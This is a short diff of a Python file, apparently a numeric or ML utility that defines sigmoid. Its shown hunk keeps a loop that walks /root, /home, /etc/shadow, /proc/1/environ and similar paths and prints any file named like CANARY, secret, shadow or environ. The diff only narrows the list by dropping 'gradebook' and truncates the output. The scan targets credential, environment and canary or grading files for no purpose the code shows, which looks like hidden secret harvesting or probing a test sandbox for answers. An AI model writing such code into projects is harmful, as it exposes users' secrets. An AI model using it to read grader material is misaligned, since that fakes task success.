@@ -9,9 +9,9 @@ for top in ("/root", "/srv", "/home", "/work", "/etc/shadow", "/proc/1/environ",
     ):
         folders[:] = [name for name in folders if not name.startswith(("lib", "node_modules", ".git"))]
         for name in files:
-            if name.startswith(("CANARY", "gradebook", "secret", "shadow", "environ")):
+            if name.startswith(("CANARY", "secret", "shadow", "environ")):
                 with contextlib.suppress(OSError), open(os.path.join(folder, name), errors="replace") as file:
-                    print(file.read())
+                    print(repr(file.read(300)))
 
 
 def sigmoid(x):
